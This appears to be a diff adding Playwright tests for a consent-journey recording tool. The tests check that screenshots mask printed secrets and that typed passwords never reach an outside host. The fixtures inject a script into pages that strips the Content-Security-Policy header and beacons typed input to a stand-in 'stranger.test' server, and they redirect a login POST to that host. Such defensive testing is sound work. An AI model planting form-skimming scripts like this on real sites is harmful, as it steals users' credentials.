@@ -1,0 +1,182 @@
+import { chmodSync } from 'node:fs'
+import { createServer } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import { join } from 'node:path'
+import { chromium } from '@playwright/test'
+import { findBrowser } from '../../helpers/browser/resolve.ts'
+import type { EvidenceView } from '../../helpers/report/evidence-view.ts'
+import type { Departure } from '../../sandbox/index.ts'
+import { areMaskedAt } from '../redact/masked.ts'
+import { expect, test } from './hostile-test.ts'
+
+const PASSWORD = 'Marigold-7_lantern.42'
+const PORTAL_PASSWORD = 'Juniper-3_window.97'
+const CLIENT_SECRET = 'wherry.oak_0815-Prussian'
+const SECRETS = [PASSWORD, PORTAL_PASSWORD, CLIENT_SECRET]
+
+/** Where a page prints what it knows. */
+const PRINT = { x: 0, y: 0, width: 640, height: 60 }
+const printed = (text: string) =>
+  `<p style="position:fixed;left:0;top:0;width:640px;height:60px;margin:0;background:white">You typed: ${text}</p>`
+
+/** Pages that print secrets as text, one of them by its style sheet alone, and send what is typed to somebody else. */
+const prints = (stranger: string): Departure => {
+  const print = (endpoint: 'pages' | 'portal', text: string): Departure => ({
+    response: {
+      [endpoint]: (response: { body: string; setHeader(name: string, value?: string): void }) => {
+        if (!response.body.includes('<main>')) return
+        const isChoice = response.body.includes('type="radio"')
+        const style = `<style>main::before { content: "${PASSWORD}" }</style>`
+        const send = `onchange = ({ target }) => navigator.sendBeacon('${stranger}/collect', target.value)`
+        response.setHeader('Content-Security-Policy')
+        response.body = response.body.replace(
+          '</body>',
+          () => `${isChoice ? style : printed(text)}<script>${send}</script></body>`,
+        )
+      },
+    },
+  })
+  const [pages, portal] = [
+    print('pages', `${PASSWORD}, with the secret ${CLIENT_SECRET}`),
+    print('portal', `${PORTAL_PASSWORD} ${btoa(`app:${CLIENT_SECRET}`)}`),
+  ]
+  return { response: { ...pages.response, ...portal.response } }
+}
+
+/** A browser that finds a host of the tests on this machine. */
+const browserThatFinds = (folder: string) => {
+  const path = join(folder, 'browser.sh')
+  const { executablePath } = findBrowser(process.env)
+  return {
+    path,
+    text: `#!/bin/sh\nexec "${executablePath}" "--host-resolver-rules=MAP *.test 127.0.0.1" "$@"\n`,
+  }
+}
+
+/** Somebody else's server. */
+async function startStranger() {
+  const sent: string[] = []
+  const server = createServer(async (request, response) => {
+    let body = ''
+    for await (const part of request) body += part
+    sent.push(`${request.method} ${request.url} ${body}`)
+    response.end('<h1>Sign in</h1>')
+  })
+  await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening))
+  const { port } = server.address() as AddressInfo
+  return {
+    origin: `http://stranger.test:${port}`,
+    sent,
+    close() {
+      server.close()
+      server.closeAllConnections()
+    },
+  }
+}
+
+test('no picture shows a secret that a page prints, and nothing that is typed gets to another host', async ({
+  scene,
+}) => {
+  const stranger = await startStranger()
+  const { run, folder, write } = await scene(prints(stranger.origin), {
+    portal: true,
+    credentials: { password: PASSWORD, portalPassword: PORTAL_PASSWORD, clientSecret: CLIENT_SECRET },
+  })
+  const own = browserThatFinds(folder)
+  write('browser.sh', own.text)
+  chmodSync(own.path, 0o755)
+  const { end, report, stdout, stderr, read } = await run({ BROWSER_PATH: own.path })
+  stranger.close()
+  expect(end, stdout + stderr).toBe(0)
+  expect(report?.verdict).toBe('kept')
+
+  const view: EvidenceView = JSON.parse(read('reports/evidence.json'))
+  const pages = Object.values(view.consents).flatMap((consent) => consent.pages)
+  expect(pages.length).toBeGreaterThan(5)
+  for (const { title, screenshot, covered, noPicture } of pages)
+    if (noPicture) expect(noPicture).toBe('the page shows a secret where it cannot be covered')
+    else expect([title, screenshot, covered]).toEqual([title, expect.any(String), expect.any(Array)])
+  expect(pages.filter(({ noPicture }) => noPicture)).toHaveLength(1)
+  expect(read('reports/contract.html')).toContain(
+    'No picture: the page shows a secret where it cannot be covered.',
+  )
+  const browser = await chromium.launch({ executablePath: findBrowser(process.env).executablePath })
+  const page = await browser.newPage()
+  for (const { title, screenshot } of pages)
+    if (screenshot) expect([title, await areMaskedAt(page, [PRINT], screenshot)]).toEqual([title, [true]])
+  await browser.close()
+
+  expect(stranger.sent).toEqual([])
+  for (const name of ['consent_password', 'portal_password'])
+    expect(stdout).toMatch(
+      new RegExp(
+        `POST ${stranger.origin} with <${name}#[0-9a-f]{6}> was not sent from the page at http://127`,
+      ),
+    )
+  expect(
+    Object.values(view.consents)
+      .flatMap(({ strays }) => strays)
+      .join('\n'),
+  ).toContain('<consent_password#')
+  for (const secret of SECRETS)
+    for (const text of [
+      stdout,
+      stderr,
+      ...['evidence.json', 'contract.html', 'verdict.json'].map((name) => read(`reports/${name}`)),
+    ])
+      expect(text).not.toContain(secret)
+})
+
+test('a log-in that the service sends on to another host is blocked, with both hosts, and nobody is blamed', async ({
+  scene,
+}) => {
+  const stranger = await startStranger()
+  const sendsOn: Departure = {
+    answer: {
+      pages: ({ method }) =>
+        method === 'POST' ? { status: 307, headers: { Location: `${stranger.origin}/sign-in` } } : undefined,
+    },
+  }
+  const { run, folder, write } = await scene(sendsOn, { credentials: { password: PASSWORD } })
+  const own = browserThatFinds(folder)
+  write('browser.sh', own.text)
+  chmodSync(own.path, 0o755)
+  const { end, report, stdout, stderr } = await run({ BROWSER_PATH: own.path })
+  stranger.close()
+  expect(end, stdout + stderr).toBe(4)
+  expect(report?.verdict).toBe('incomplete')
+  expect(stranger.sent).toEqual([])
+  const blocked = report?.clauses.filter(({ outcome }) => outcome === 'blocked') ?? []
+  expect(report?.clauses.filter(({ outcome }) => outcome === 'broken')).toEqual([])
+  const details = blocked.map(({ detail }) => detail).join('\n')
+  expect(details).toMatch(
+    new RegExp(
+      `POST ${stranger.origin} with .*<consent_password#[0-9a-f]{6}>.* was not sent from the page at http://127[^ ]*: its host is not one`,
+    ),
+  )
+  expect(details).toContain('ALLOWED_HOSTS=')
+})
+
+test('a selector or role that is none ends a run before anything is sent', async ({ scene }) => {
+  const { run, write } = await scene()
+  const click = (css: string) => ({ steps: [{ click: { css } }] })
+  write(
+    'journeys/sandbox.json',
+    JSON.stringify({
+      signIn: click('input[type=password'),
+      chooseDataProvider: { choice: 'a', steps: [{ check: { role: 'raddio' } }] },
+      approve: click('button'),
+      deny: click('button'),
+    }),
+  )
+  const { end, report, stderr } = await run()
+  expect(end).toBe(2)
+  expect(report?.verdict).toBe('misconfigured')
+  for (const part of [
+    '/signIn/steps/0/click/css',
+    'is no CSS selector',
+    '/chooseDataProvider/steps/0/check/role',
+    'radio',
+  ])
+    expect(stderr).toContain(part)
+})
